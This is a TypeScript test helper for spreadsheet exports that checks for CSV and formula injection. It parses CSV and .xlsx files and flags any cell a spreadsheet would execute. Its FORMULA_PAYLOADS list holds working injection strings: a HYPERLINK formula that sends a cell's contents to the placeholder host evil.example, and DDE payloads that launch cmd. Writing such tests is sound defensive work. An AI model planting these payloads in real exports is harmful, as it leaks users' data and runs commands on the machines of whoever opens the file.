/**
 * CSV injection, for the tests of every export: the payloads the issue found in downloaded lists,
 * and readers that take a CSV or .xlsx back apart and name each cell a spreadsheet would run.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';

/** The four payloads, and text that starts with a tab or a carriage return (Excel skips them, then reads a formula). */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
] as const;

/**
 * Text a spreadsheet would take for a formula: a leading = + - @, tab or CR. A plain decimal
 * number ("-1200.50") is read as the number it is, so it is not one.
 */
export const runsAsFormula = (text: string): boolean => /^[=+\-@\t\r]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text);

/** Every field of a CSV text (BOM dropped), with where it stands. */
export function csvCells(text: string): { at: string; text: string }[] {
  const rows = parse(text, { bom: true, relax_column_count: true }) as string[][];
  return rows.flatMap((cells, r) => cells.map((c, k) => ({ at: `row ${r + 1} column ${k + 1}`, text: c })));
}

/** Every non-empty cell of every sheet of an .xlsx, as text (a formula as its formula), with where it stands. */
export async function xlsxCells(bytes: Uint8Array): Promise<{ at: string; text: string; formula: boolean }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  const out: { at: string; text: string; formula: boolean }[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    const formula = cell.type === ExcelJS.ValueType.Formula;
    out.push({ at: `${ws.name}!${cell.address}`, text: formula ? `=${cell.formula}` : typeof cell.value === 'string' ? cell.value : String(cell.value), formula });
  })));
  return out;
}

/** The cells of `cells` a spreadsheet would run: none, in a safe export. */
export const formulaCells = (cells: readonly { at: string; text: string; formula?: boolean }[]): string[] =>
  cells.filter((c) => c.formula || runsAsFormula(c.text)).map((c) => `${c.at}: ${JSON.stringify(c.text)}`);
